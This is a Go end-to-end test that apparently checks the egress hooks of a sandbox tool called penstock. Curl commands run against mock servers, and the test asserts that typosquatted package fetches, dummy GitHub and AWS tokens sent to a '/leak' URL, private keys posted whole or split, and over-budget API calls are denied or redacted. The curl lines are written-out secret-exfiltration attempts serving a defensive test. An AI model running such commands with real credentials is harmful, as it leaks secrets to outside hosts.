package e2e

import (
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/penstock/penstock/hooks/wasm/wasmtest"
	"github.com/penstock/penstock/internal/world"
)

// The hooks of examples/hooks, built as its README says, decide about curl's requests in
// a pen with the policy that is there.
func TestExampleHooks(t *testing.T) {
	if world.Bare() {
		t.Skip("no hooks without a pen")
	}
	wasmtest.NeedsC(t)
	world.Tool(t, "curl")
	w := world.New(t)
	p := newPen(t, w)
	dir := filepath.Join(wasmtest.Root(t), "examples", "hooks")
	read := func(name string) string {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	p.Home.Write(t, "secrets.wasm", string(wasmtest.C(t, read("secrets.c"))))
	p.Home.Write(t, "spend.wasm", string(wasmtest.C(t, "#define REQUESTS 2\n"+read("spend.c"))))
	p.Home.Write(t, "pem.wasm", string(wasmtest.C(t, read("pem.c"))))
	p.Home.Write(t, "packages.wasm", string(wasmtest.Go(t, filepath.Join(dir, "packages"))))
	p.Whole = strings.Replace(read("policy.yaml"), "egress:\n", "egress:\n  ca: ["+world.QuoteYAML(w.CA())+"]\n", 1)
	for _, name := range []string{"registry.npmjs.org", "pypi.org", "api.anthropic.com", "www.example.com"} {
		w.HTTPS(name, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			io.WriteString(w, name+" has "+r.URL.Path+" "+string(b))
		}))
	}
	r := p.Sh(`
		get() { curl -sS "$@"; echo; }
		get https://registry.npmjs.org/react
		get https://registry.npmjs.org/@types%2fnode
		get https://registry.npmjs.org/reakt
		get https://pypi.org/simple/requests/
		get https://pypi.org/simple/reqests/
		get "https://www.example.com/a?b=c"
		get "https://www.example.com/leak?t=ghp""_$(printf 'a%.0s' $(seq 36))"
		get -H "Authorization: Bearer AKIA""BBBBBBBBBBBBBBBB" https://www.example.com/leak
		key=PRIVATE; key="$key KEY-----"
		get --data "{\"key\":\"-----BEGIN $key\nMIIE\n-----END $key\"}" https://www.example.com/key
		get --data "-----BEGIN $key MIIE" https://www.example.com/half
		for i in 1 2 3; do get --data x https://api.anthropic.com/v1/messages$i; done`)
	for _, want := range []string{
		"registry.npmjs.org has /react \n", "registry.npmjs.org has /@types/node \n", "denied by hook packages: npm:reakt is not in the list of packages",
		"pypi.org has /simple/requests/ \n", "denied by hook packages: pypi:reqests is not in the list of packages",
		"www.example.com has /a \n", "denied by hook secrets: it carries a token of GitHub", "denied by hook secrets: it carries an access key of AWS",
		"api.anthropic.com has /v1/messages1 x\n", "api.anthropic.com has /v1/messages2 x\n", "denied by hook spend: the session's requests are spent",
		`www.example.com has /key {"key":"-----BEGIN PRIVATE KEY-----` + strings.Repeat("*", len(`\nMIIE\n`)) + `-----END PRIVATE KEY-----"}`, "denied by hook pem: a private key in pieces",
	} {
		if !strings.Contains(r.Stdout, want) {
			t.Errorf("no %q in %s", want, r)
		}
	}
	for _, never := range []string{"has /reakt", "has /leak", "has /v1/messages3", "MIIE"} {
		if strings.Contains(r.Stdout, never) {
			t.Errorf("%q in %s", never, r)
		}
	}
}
